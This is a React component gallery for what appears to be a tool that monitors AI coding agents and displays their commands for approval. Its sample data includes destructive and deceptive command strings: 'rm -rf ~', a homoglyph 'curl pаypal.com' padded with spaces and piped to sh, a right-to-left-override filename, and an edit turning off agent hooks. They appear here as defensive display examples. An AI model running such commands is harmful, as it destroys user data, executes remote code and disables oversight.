import type { ReactNode } from 'react';
import { VERDICT_WORDS } from '../../preload/contract.ts';
import { Button, IconButton, TextLink } from '../components/button.tsx';
import { Empty } from '../components/empty.tsx';
import { ExactCall } from '../components/exact-call.tsx';
import { Bird } from '../components/icon.tsx';
import { Notice } from '../components/notice.tsx';
import { Switch } from '../components/switch.tsx';
import { VerdictLabel } from '../components/verdict.tsx';
import { Exact, Path } from '../components/visible.tsx';
import { useLanguage } from '../messages/language.tsx';
import styles from './gallery.module.css';

/** Every component in every state it can be put into by hand. */
export function Components() {
  const { t } = useLanguage();
  return (
    <main className={styles['sheet']}>
      <h1>Components</h1>
      <div className={styles['columns']}>
        <div>
          <Group title="Buttons">
            <Row name="Default">
              <Button>Mend</Button>
              <Button icon="export">Export</Button>
              <Button isDisabled>Off</Button>
            </Row>
            <Row name="Primary">
              <Button look="primary">Answer…</Button>
              <Button look="primary" isDisabled>
                Off
              </Button>
            </Row>
            <Row name="Plain">
              <Button look="plain">Details</Button>
              <Button look="plain" isDisabled>
                Off
              </Button>
              <TextLink>Show rule</TextLink>
            </Row>
            <Row name="Icon">
              <IconButton icon="copy" label="Copy" />
              <IconButton icon="flag" label="Report" />
              <IconButton icon="more" label="More" />
            </Row>
          </Group>
          <Group title="Verdicts: outer shape says who, inner mark says what">
            {VERDICT_WORDS.map((word) => (
              <div key={word} className={styles['verdict']}>
                <VerdictLabel word={word} withMark />
                <span>{t(`verdict.${word}.meaning`)}</span>
              </div>
            ))}
          </Group>
          <Group title="Choices">
            <Row name="Switch">
              <Switch label="Off" on={false} />
              <Switch label="On" on />
              <Switch label="Locked" on locked />
              <Switch label="Cannot be used" on={false} disabled />
            </Row>
          </Group>
        </div>
        <div>
          <Group title="Exact call">
            <ExactCall
              label="Exact call"
              lines={[
                { text: 'cd ~/Documents', tone: 'quiet', marks: [], colours: [] },
                { text: 'rm -rf invoices', tone: 'risky', marks: [{ from: 0, to: 15 }], colours: [] },
              ]}
            />
          </Group>
          <Group title="An edit">
            <ExactCall
              label="Edit"
              lines={[
                { text: 'Edit ~/.gemini/settings.json', tone: 'risky', marks: [{ from: 5, to: 28 }], colours: [] },
                { text: '"hooksConfig": { "enabled": true }', tone: 'removed', marks: [], colours: [] },
                { text: '"hooksConfig": { "enabled": false }', tone: 'added', marks: [], colours: [] },
              ]}
            />
          </Group>
          <Group title="Text that hides something">
            <ExactCall
              label="Hidden"
              lines={[
                { text: 'cat photo\u202egpj.sh \u200b| sh', tone: 'plain', marks: [], colours: [] },
                { text: `curl pаypal.com${' '.repeat(200)}| sh`, tone: 'plain', marks: [], colours: [] },
              ]}
            />
            <Row name="Path">
              <Path path={'~/Documents/in\u200bvoices'} />
            </Row>
            <Row name="Command">
              <Exact text={'ls\nrm -rf ~'} />
            </Row>
          </Group>
          <Group title="Feedback">
            <Notice
              title="Its settings were changed at 09:12, and Perch’s entry is gone."
              action={<Button>Mend</Button>}
            >
              Mending puts the entry back and leaves your other settings as they are.
            </Notice>
            <Empty title="Nothing here yet">Ask an agent for something, and each step shows up here.</Empty>
          </Group>
          <Group title="What sits on the perch">
            <Row name="States">
              <Bird state="on" />
              <Bird state="watching" />
              <Bird state="paused" />
              <Bird state="problem" />
            </Row>
          </Group>
          <Group title="Type">
            <Row name="Display 24/32">
              <span className={styles['type-display']}>One question waits</span>
            </Row>
            <Row name="Ask 18/26">
              <span className={styles['type-ask']}>Codex wants to change a file</span>
            </Row>
            <Row name="Title 16/24">
              <span className={styles['type-title']}>What agents did today</span>
            </Row>
            <Row name="Read 14/22">
              <span className={styles['type-read']}>This cannot be undone.</span>
            </Row>
            <Row name="Body 13/20">Changed src/totals.ts</Row>
            <Row name="Caption 12/16">
              <span className={styles['type-caption']}>Waiting 0:18</span>
            </Row>
          </Group>
        </div>
      </div>
    </main>
  );
}

function Group({ title, children }: { readonly title: string; readonly children: ReactNode }) {
  return (
    <section className={styles['group']}>
      <h2>{title}</h2>
      {children}
    </section>
  );
}

function Row({ name, children }: { readonly name: string; readonly children: ReactNode }) {
  return (
    <div className={styles['row']}>
      <span>{name}</span>
      <div>{children}</div>
    </div>
  );
}
